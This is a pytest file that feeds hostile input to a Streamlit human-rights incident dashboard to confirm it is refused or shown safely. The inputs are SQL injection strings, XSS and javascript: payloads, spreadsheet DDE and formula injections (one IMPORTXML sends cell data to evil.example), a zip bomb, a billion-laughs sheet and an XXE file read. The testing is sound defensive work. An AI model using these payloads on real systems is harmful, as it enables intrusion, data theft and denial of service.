"""Hostile input, end to end: addresses, stored text, spreadsheets and exports.

Complements tests/test_hostile_filters.py (the filter parser and the queries,
value by value) and tests/test_import_faults.py (encodings, formulas, a 50 MB
field, a lying zip directory, 2,500 columns): here the same kinds of input go
through the running pages (AppTest), the case and list pages' handling of
stored text, the file reader's remaining edge cases, and the CSV export under
hypothesis. Every case must end in a clear message or a safely shown value,
and nothing lost.

Where the code does not yet do what it should, the case is marked
``xfail(strict=True)`` with the file to fix, so it turns red the day it is fixed
(and must then lose its mark).
"""
from __future__ import annotations

import codecs
import csv
import io
import re
import shutil
import struct
import time
import zipfile
from pathlib import Path
from typing import Any, Iterator

import duckdb
import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from dashboard import db
from dashboard.csv_sql import FORMULA_PREFIXES
from dashboard.export import neutralise, to_csv_bytes
from dashboard.ingest.reader import MAX_COLUMNS, ImportFileError, read_csv_bytes, read_table

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "dashboard" / "app.py")
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
ANALYST_ONLY = {"edit", "draft", "admin", "import_data"}


def public_pages() -> list[str]:
    """Every page a visitor can open, read from app.py (so a new page is covered the day it is added)."""
    text = (ROOT / "dashboard" / "app.py").read_text(encoding="utf-8")
    names = re.findall(r'PAGES_DIR / "(\w+)\.py"', text)
    return [f"app_pages/{n}.py" for n in dict.fromkeys(names) if n not in ANALYST_ONLY]


PAGES = public_pages()


def _clear_caches() -> None:
    import streamlit as st_

    st_.cache_data.clear()
    st_.cache_resource.clear()


def run_page(monkeypatch: pytest.MonkeyPatch, path: Path, page: str, params: dict[str, Any]) -> AppTest:
    monkeypatch.setenv("HRD_DB", str(path))
    _clear_caches()
    at = AppTest.from_file(APP, default_timeout=90)
    at.switch_page(page)
    for key, value in params.items():
        at.query_params[key] = value
    at.run()
    return at


# --- what a page shows, by how it is shown ------------------------------------------------------

# elements whose text Streamlit renders as Markdown (labels included); the rest show text as it is
MARKDOWN_KINDS = {"Markdown", "Heading", "Alert", "Metric", "PageLink", "Button", "DownloadButton",
                  "LinkButton", "Checkbox", "Radio", "MultiSelect", "Selectbox", "Slider", "TextInput",
                  "TextArea", "NumberInput", "Expander", "Block", "Tabs", "Toast"}


def _repeated(field: Any) -> bool:
    flag = getattr(field, "is_repeated", None)  # protobuf 6+; older ones have .label
    return bool(flag) if flag is not None else field.label == field.LABEL_REPEATED


def _strings(message: Any, kind: str, out: list[tuple[str, str, str]]) -> None:
    for field, value in message.ListFields():
        if field.type == field.TYPE_MESSAGE:
            items = value if _repeated(field) else [value]
            for item in items:
                if hasattr(item, "ListFields"):
                    _strings(item, kind, out)
        elif field.type == field.TYPE_STRING:
            for item in (value if _repeated(field) else [value]):
                out.append((kind, field.name, item))
        elif field.type == field.TYPE_BYTES and field.name == "data" and value:
            try:  # a dataframe: Arrow IPC bytes; every text cell is shown as it is
                table = pa.ipc.open_stream(value).read_all()
            except pa.ArrowInvalid:
                continue
            for column in table.columns:
                if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
                    out.extend(("Arrow", field.name, v) for v in column.to_pylist() if v)


def shown_strings(at: AppTest) -> list[tuple[str, str, str]]:
    """(element kind, field, text) for every string a page sends to the browser."""
    out: list[tuple[str, str, str]] = []

    def walk(node: Any) -> None:
        proto = getattr(node, "proto", None)
        if proto is not None and hasattr(proto, "ListFields"):
            _strings(proto, type(proto).__name__, out)
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return out


RAW_HTML = re.compile(r"(?<!\\)<\s*(img|script|iframe|svg)\b", re.IGNORECASE)
JS_LINK = re.compile(r"(?<!\\)\]\(\s*(javascript|vbscript|data):", re.IGNORECASE)
MD_IMAGE = re.compile(r"(?<!\\)!(?<!\\)\[[^\]]*(?<!\\)\]\(")


def problems(strings: list[tuple[str, str, str]], check: str) -> list[str]:
    found = []
    for kind, field, text in strings:
        markdown = kind in MARKDOWN_KINDS and field in ("body", "label", "help", "caption", "value", "placeholder")
        if check == "no raw HTML in Markdown" and markdown and RAW_HTML.search(text):
            found.append(f"{kind}.{field}: {text[:120]!r}")
        elif check == "no javascript: link" and ((markdown and JS_LINK.search(text)) or (
                field == "url" and text.strip().lower().startswith(("javascript:", "vbscript:", "data:")))):
            found.append(f"{kind}.{field}: {text[:120]!r}")
        elif check == "no Markdown image (tracking pixel)" and markdown and MD_IMAGE.search(text):
            found.append(f"{kind}.{field}: {text[:120]!r}")
        elif check == "no bidi override" and any(ch in text for ch in BIDI):
            found.append(f"{kind}.{field}: {text[:120]!r}")
        elif check == "no control characters" and CONTROL.search(text):
            found.append(f"{kind}.{field}: {text[:120]!r}")
    return found


# --- 1. hostile addresses on every page -------------------------------------------------------------

PARAM_SETS: dict[str, dict[str, Any]] = {
    "sql": {"country": "KAZ'; drop table incidents; --", "q": "' or 1=1 --", "id": "1; drop table incidents",
            "defender_profile": "1 or 1=1", "a.country": "x'); drop table acts; --", "unit": "acts' --"},
    "script tags": {"country": "<script>alert(1)</script>", "region": "<img src=x onerror=alert(1)>",
                    "q": "<script>alert(1)</script>", "id": "<script>", "b.q": "<svg onload=alert(1)>"},
    "huge values (100 KB)": {"q": "x" * 100_000, "country": "K" * 100_000, "id": "9" * 100_000,
                             "from": "2" * 100_000, "defender_profile": "1" * 100_000},
    "unknown keys": {"nosuch": "1", "__proto__": "x", "country[]": "KAZ", "": "blank key", "a.nosuch": "1"},
    "repeated keys": {"country": ["KAZ", "KGZ", "KAZ"], "from": ["2020", "2021"], "id": ["1", "2"],
                      "q": ["Almaty", "Shymkent"], "a.country": ["KAZ", "COL"]},
    "control and bidi characters": {"q": "\u202eytamlA", "country": "KAZ\x00", "to": "\x1b[31m2024",
                                    "violation": "threats\u202e"},
}
FILTER_KEYS = ("country", "region", "q", "from", "to", "violation")


@pytest.fixture(scope="module")
def hostile_db(seed_db_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The seed plus one public incident whose every text field is hostile."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.duckdb"
    shutil.copy(seed_db_path, path)
    con = duckdb.connect(str(path))
    try:
        con.execute("begin transaction")
        con.execute(
            "insert into incidents (incident_id, source_key, title, start_date, end_date, date_precision, country_code, "
            "place, summary, visibility) values (50, 'hostile-50', $title, date '2023-03-01', date '2023-03-01', 'day', "
            "'KAZ', $place, $summary, 'public')",
            {"title": "=HYPERLINK(\"http://evil.example\") " + HOSTILE, "place": "Almaty " + HOSTILE,
             "summary": "Summary " + HOSTILE + "\nsecond line"},
        )
        con.execute("insert into sources (source_id, publisher, title, url) values (50, $p, $t, 'javascript:alert(1)')",
                    {"p": "Publisher " + HOSTILE, "t": "Source " + HOSTILE})
        con.execute("insert into sources (source_id, publisher, title, url) values (51, $p, $t, 'https://example.org/a')",
                    {"p": "Web " + HOSTILE, "t": "Linked " + HOSTILE})
        con.execute("insert into incident_sources values (50, 50), (50, 51)")
        con.execute("insert into defenders (defender_id, name, kind, gender_code, country_code, is_name_public, "
                    "visibility) values (50, $n, 'person', 'woman', 'KAZ', true, 'public')", {"n": "Aigul " + HOSTILE})
        con.execute("insert into defender_sectors values (50, 'womens_rights')")
        con.execute("insert into actors (actor_id, name, actor_type_code) values (50, $n, 'police')",
                    {"n": "Officer " + HOSTILE})
        con.execute("insert into acts (act_id, incident_id, violation_code, act_date, date_precision, "
                    "victim_defender_id, description) values (50, 50, 'threats', date '2023-03-01', 'day', 50, $d)",
                    {"d": "Act " + HOSTILE})
        con.execute("insert into act_perpetrators values (50, 50, 'carried_out', $n)", {"n": "note " + HOSTILE})
        db.refresh_facts(con)
        con.execute("commit")
    finally:
        con.close()
    return path


HOSTILE = ("<img src=x onerror=alert(1)> [click](javascript:alert(1)) ![px](https://tracker.example/p.png) "
           "\x1b[31mred\x07 \u202eevil\u202c <script>alert(2)</script>")


@pytest.mark.parametrize("name", list(PARAM_SETS))
@pytest.mark.parametrize("page", PAGES, ids=[p.split("/")[-1][:-3] for p in PAGES])
def test_hostile_addresses_never_break_a_page(hostile_db: Path, monkeypatch: pytest.MonkeyPatch,
                                              page: str, name: str) -> None:
    params = PARAM_SETS[name]
    at = run_page(monkeypatch, hostile_db, page, params)
    assert not at.exception, [e.value[:300] for e in at.exception]
    notes = [c.value for c in at.caption if c.value.startswith("⚠")]
    for note in notes:  # the page says what it ignored, briefly: a 100 KB value is not echoed back
        assert len(note) < 1000, note[:200]
    ignored = [k for k in FILTER_KEYS if k in params and name != "repeated keys"]
    if ignored:
        assert notes, f"no visible note for the ignored {ignored}"
    if name == "unknown keys":
        assert any("nosuch" in n for n in notes), notes
    for error in at.error:  # an address can be wrong; it never breaks the database
        assert "database" not in error.value.lower(), error.value


def test_hostile_addresses_changed_nothing(hostile_db: Path, seed_db_path: Path) -> None:
    """After every SQL-looking address above, the database holds what it held."""
    con = duckdb.connect(str(hostile_db))  # the app's cached connection is still open in this process
    try:
        counts = con.execute("select (select count(*) from incidents), (select count(*) from acts)").fetchall()[0]
    finally:
        con.close()
    assert counts == (3, 20)


MARKDOWN_PARAMS = {
    "javascript link": "[click me](javascript:alert(document.cookie))",
    "tracking image": "![x](https://tracker.example/pixel.png?who=visitor)",
}
@pytest.mark.parametrize("what", list(MARKDOWN_PARAMS))
@pytest.mark.parametrize("page,key", [
    ("app_pages/overview.py", "country"),
    ("app_pages/compare.py", "a.country"),
    ("app_pages/report.py", "country"),
    ("app_pages/case.py", "id"),
])
def test_an_ignored_value_is_shown_as_text_not_markdown(hostile_db: Path, monkeypatch: pytest.MonkeyPatch,
                                                        page: str, key: str, what: str) -> None:
    at = run_page(monkeypatch, hostile_db, page, {key: MARKDOWN_PARAMS[what]})
    assert not at.exception
    strings = shown_strings(at)
    assert not problems(strings, "no javascript: link")
    assert not problems(strings, "no Markdown image (tracking pixel)")


# --- 2. hostile text stored in the database, shown on pages ---------------------------------------------

CHECKS = ["no raw HTML in Markdown", "no javascript: link", "no Markdown image (tracking pixel)",
          "no bidi override", "no control characters"]
TEXT_VIEWS = {
    "case page": ("app_pages/case.py", {"id": "50"}),
    "cases table": ("app_pages/cases.py", {"country": "KAZ"}),
    "defender profile": ("app_pages/profiles.py", {"defender_profile": "50"}),
    "compare places": ("app_pages/compare.py", {"a.country": "KAZ", "b.country": "KAZ"}),
}
KNOWN: dict[tuple[str, str], str] = {}  # (view, check) pairs that fail today, with where to fix them


def _view_cases() -> Iterator[Any]:
    for view in TEXT_VIEWS:
        for check in CHECKS:
            reason = KNOWN.get((view, check))
            marks = [pytest.mark.xfail(strict=True, reason=reason)] if reason else []
            yield pytest.param(view, check, marks=marks, id=f"{view}-{check}")


@pytest.fixture(scope="module")
def rendered(hostile_db: Path) -> dict[str, list[tuple[str, str, str]]]:
    """Each view rendered once (AppTest is slow), shared by the checks."""
    mp = pytest.MonkeyPatch()
    out = {}
    try:
        for view, (page, params) in TEXT_VIEWS.items():
            at = run_page(mp, hostile_db, page, params)
            assert not at.exception, (view, [e.value[:300] for e in at.exception])
            out[view] = shown_strings(at)
    finally:
        mp.undo()
    return out


@pytest.mark.parametrize("view,check", list(_view_cases()))
def test_stored_hostile_text_is_shown_safely(rendered: dict, view: str, check: str) -> None:
    strings = rendered[view]
    assert any("evil" in text or "Aigul" in text or "Almaty" in text for _, _, text in strings), \
        f"the hostile record is not on the {view}: the test would prove nothing"
    found = problems(strings, check)
    assert not found, found[:5]


def test_the_case_page_shows_the_hostile_title_escaped_not_dropped(rendered: dict) -> None:
    headings = [text for kind, field, text in rendered["case page"] if kind == "Heading"]
    assert any("\\<img src=x onerror=alert\\(1\\)\\>" in h for h in headings), headings
    assert any("\\[click\\]\\(javascript:alert\\(1\\)\\)" in h for h in headings), headings


# --- 3. spreadsheets: what test_import_faults.py does not already cover ----------------------------------

GOOD = "Nombre;Ciudad;Fecha\nAna Pérez;Bogotá;2023-03-12\nLuis Núñez;Medellín;marzo 2023\n"


@pytest.mark.parametrize("encoding", ["utf-16-be", "utf-32", "utf-32-le", "utf-8-sig"])
def test_unusual_unicode_encodings_are_read(encoding: str) -> None:
    data = GOOD.encode(encoding)
    if encoding == "utf-32-le":
        data = codecs.BOM_UTF32_LE + data
    frame = read_csv_bytes(data, name=f"{encoding}.csv")
    assert list(frame.columns) == ["Nombre", "Ciudad", "Fecha"]
    assert frame["Nombre"].tolist() == ["Ana Pérez", "Luis Núñez"]
    assert frame["Ciudad"].tolist() == ["Bogotá", "Medellín"]


def test_a_bom_that_lies_about_the_encoding_is_a_clear_error() -> None:
    data = codecs.BOM_UTF8 + GOOD.encode("latin-1")  # says UTF-8, is Latin-1
    with pytest.raises(ImportFileError, match=r"cannot be decoded as utf-8.*UTF-8"):
        read_csv_bytes(data, name="liar.csv")


def test_a_double_bom_leaves_no_trace_in_the_header() -> None:
    frame = read_csv_bytes(codecs.BOM_UTF8 + "\ufeff".encode() + GOOD.encode(), name="twice.csv")
    assert list(frame.columns) == ["Nombre", "Ciudad", "Fecha"]


@pytest.mark.parametrize("newline", ["\r\n", "\n", "\r", "mixed"])
def test_line_endings_of_any_kind_keep_every_row(newline: str) -> None:
    lines = ["id,name,city", "1,Ana,Bogotá", "2,Luis,Cali", "3,Marta,Pasto"]
    if newline == "mixed":
        text = lines[0] + "\r\n" + lines[1] + "\n" + lines[2] + "\r" + lines[3] + "\r\n"
    else:
        text = newline.join(lines) + newline
    frame = read_csv_bytes(text.encode("utf-8"), name="endings.csv")
    assert frame["id"].tolist() == ["1", "2", "3"]
    assert frame["city"].tolist() == ["Bogotá", "Cali", "Pasto"]


def test_embedded_crlf_quotes_and_delimiters_stay_in_their_cell() -> None:
    text = 'id,note\r\n1,"line one\r\nline two, with a comma and ""quotes"""\r\n2,plain\r\n'
    frame = read_csv_bytes(text.encode("utf-8"), name="embedded.csv")
    assert frame["note"].tolist() == ['line one\r\nline two, with a comma and "quotes"', "plain"]
    assert frame.index.tolist() == [2, 3]  # Excel's row numbers: a line break inside a cell is still one row


def test_an_unclosed_quote_does_not_swallow_rows_silently() -> None:
    """A stray quote makes the CSV reader take the rest of the file as one cell; the rows after it
    must not vanish without a word: the reader must refuse (or the row count must stay whole)."""
    text = 'id,name\n1,"Ana\n2,Luis\n3,Marta\n'
    try:
        frame = read_csv_bytes(text.encode("utf-8"), name="quote.csv")
    except ImportFileError as exc:
        assert "quote" in str(exc).lower() or "line" in str(exc).lower()
        return
    assert len(frame) == 3, f"rows were swallowed into one cell: {frame.to_dict('records')}"


def test_a_million_columns_in_the_header_is_refused_quickly() -> None:
    data = (",".join(f"c{i}" for i in range(1_000_000)) + "\n" + "1\n").encode()
    start = time.perf_counter()
    with pytest.raises(ImportFileError, match=f"at most {MAX_COLUMNS}"):
        read_csv_bytes(data, name="wide.csv")
    assert time.perf_counter() - start < 20


def test_a_million_columns_in_one_data_row_is_refused() -> None:
    data = ("id,name\n1,Ana\n" + ",".join("x" * 1 for _ in range(1_000_000)) + "\n").encode()
    with pytest.raises(ImportFileError, match=r"columns|fields"):
        read_csv_bytes(data, name="row.csv")


def _xlsx(path: Path, rows: list[list[Any]]) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    wb.save(path)
    return path


def test_an_xlsx_as_wide_as_excel_allows_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "wide.xlsx"
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet()
    ws.append([f"c{i}" for i in range(16_384)])  # column XFD, Excel's last
    ws.append(["1"] * 16_384)
    wb.save(path)
    with pytest.raises(ImportFileError, match=f"at most {MAX_COLUMNS}"):
        read_table(path)


DDE = ["=cmd|' /C calc'!A0", "+HYPERLINK(\"http://evil.example\",\"click\")", "-2+3+cmd|' /C calc'!A0",
       "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")"]


def test_xlsx_formula_payloads_are_read_as_text_and_exported_inert(tmp_path: Path) -> None:
    path = tmp_path / "formulas.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "note"])
    for i, payload in enumerate(DDE, start=1):
        ws.append([i, payload])
        if payload.startswith("="):
            ws.cell(row=i + 1, column=2).value = payload  # a real formula cell
    wb.save(path)
    frame = read_table(path)
    assert [v.strip() for v in frame["note"]] == [p.strip() for p in DDE]  # nothing dropped or evaluated
    exported = to_csv_bytes(frame).decode("utf-8-sig")
    for row in list(csv.reader(io.StringIO(exported)))[1:]:
        assert not row[1].startswith(FORMULA_PREFIXES), row


def test_an_honest_zip_bomb_is_refused_unopened(tmp_path: Path) -> None:
    """250 MB of zeros deflate to a few hundred KB; the directory says so truthfully."""
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            block = b"\0" * (1 << 20)
            for _ in range(250):
                fh.write(block)
    assert path.stat().st_size < 2 * 2**20
    start = time.perf_counter()
    with pytest.raises(ImportFileError, match="zip bomb"):
        read_table(path)
    assert time.perf_counter() - start < 2


def test_a_zip_that_understates_its_size_ends_in_a_clear_error(tmp_path: Path) -> None:
    """The directory says 1 KB; the entry inflates to 60 MB. Reading must stop at the declared size
    (or fail) with an ImportFileError, never a MemoryError or a hang."""
    path = tmp_path / "liar.xlsx"
    good = tmp_path / "good.xlsx"
    _xlsx(good, [["id", "name"], ["1", "Ana"]])
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b"<row r='3'><c r='A3' t='inlineStr'><is><t>" +
                                    b"A" * (60 * 2**20) + b"</t></is></c></row></sheetData>")
            dst.writestr(info, data)
    raw = bytearray(path.read_bytes())
    at = raw.find(b"PK\x01\x02")
    while at != -1:  # every central directory entry: uncompressed size 1 KB
        name_len = struct.unpack_from("<H", raw, at + 28)[0]
        if raw[at + 46:at + 46 + name_len] == b"xl/worksheets/sheet1.xml":
            struct.pack_into("<I", raw, at + 24, 1024)
        at = raw.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(raw))
    start = time.perf_counter()
    try:
        frame = read_table(path)
    except ImportFileError as exc:
        assert str(exc)
    else:
        assert frame.shape[1] <= 2 and len(frame) <= 2
    assert time.perf_counter() - start < 30


def test_xml_entity_expansion_in_a_sheet_is_refused(tmp_path: Path) -> None:
    """A "billion laughs" sheet: entity expansion must be refused, not computed."""
    path = tmp_path / "laughs.xlsx"
    good = tmp_path / "good.xlsx"
    _xlsx(good, [["id", "name"], ["1", "Ana"]])
    laughs = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    ) + b"]>"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
                data = laughs + body.replace(b">Ana<", b">&lol9;<")
            dst.writestr(info, data)
    start = time.perf_counter()
    try:
        frame = read_table(path)
    except ImportFileError:
        pass
    else:
        assert all(len(str(v)) < 10_000 for v in frame.to_numpy().ravel())
    assert time.perf_counter() - start < 20


def test_an_external_entity_never_reads_local_files(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-XXE-MARKER")
    path = tmp_path / "xxe.xlsx"
    good = tmp_path / "good.xlsx"
    _xlsx(good, [["id", "name"], ["1", "Ana"]])
    doctype = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'.encode()
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
                data = doctype + body.replace(b">Ana<", b">&xxe;<")
            dst.writestr(info, data)
    try:
        frame = read_table(path)
    except ImportFileError:
        return
    assert "TOP-SECRET-XXE-MARKER" not in frame.to_csv()


# --- 4. the CSV export under hypothesis ---------------------------------------------------------------------

# Any text a record can hold. NUL is left out on purpose: pandas' C parser ends a field at
# NUL, so no CSV can carry it into pandas; the importer refuses NUL as binary input anyway.
cell_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40)
column_names = st.lists(cell_text.filter(lambda s: s.strip() != "" and not s.startswith("Unnamed")),
                        min_size=1, max_size=5, unique_by=lambda s: str(neutralise(s)))


@st.composite
def text_frames(draw: Any) -> pd.DataFrame:
    columns = draw(column_names)
    rows = draw(st.integers(min_value=0, max_value=6))
    data = {c: draw(st.lists(cell_text, min_size=rows, max_size=rows)) for c in columns}
    return pd.DataFrame(data, columns=columns, dtype=object)


@settings(max_examples=300, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(frame=text_frames())
def test_any_text_frame_survives_the_csv_round_trip(frame: pd.DataFrame) -> None:
    back = pd.read_csv(io.BytesIO(to_csv_bytes(frame)), encoding="utf-8-sig", dtype=str,
                       keep_default_na=False, skip_blank_lines=False)
    expected = frame.map(neutralise)
    expected.columns = [str(neutralise(c)) for c in frame.columns]
    assert list(back.columns) == list(expected.columns)
    assert back.to_numpy().tolist() == expected.to_numpy().tolist()


@settings(max_examples=300, deadline=None, database=None)
@given(frame=text_frames())
def test_no_exported_cell_can_start_a_formula(frame: pd.DataFrame) -> None:
    text = to_csv_bytes(frame).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), cell
